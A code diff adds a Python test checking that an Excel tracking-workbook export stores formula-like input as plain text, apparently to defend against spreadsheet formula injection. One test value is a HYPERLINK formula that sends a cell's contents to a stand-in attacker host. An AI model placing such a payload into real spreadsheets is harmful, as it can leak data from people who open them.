@@ -105,3 +105,16 @@ def test_bytes_are_deterministic(table):
     assert wb.properties.created == wb.properties.modified == dt.datetime(2026, 8, 15)
     # another as_of changes the stamps (and the title row), so the bytes differ
     assert excel.tracking_workbook(table, "zh", title=TITLE, as_of="2026-08-16") != a
+
+
+def test_text_that_looks_like_a_formula_stays_text():
+    # a goal and a module named like Excel formulas (a hostile plan file) must not become formulas that
+    # Excel would run (HYPERLINK can send data away); they are stored and shown as the text typed
+    name, module = '=HYPERLINK("http://evil.example/?q="&A1,"click")', "=1+1"
+    t = tt.build(board(goal_row("G1", name_zh=name, module=module)), [], PLAN, [], AS_OF, None, "zh")
+    wb = load(excel.tracking_workbook(t, "zh", title="=SUM(1,2)", as_of=AS_OF))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells}
+    assert module in texts and any(str(v).startswith("=SUM(1,2) · ") for v in texts)
+    assert name in texts or any(str(v).startswith(f"G1 {name}") for v in texts)
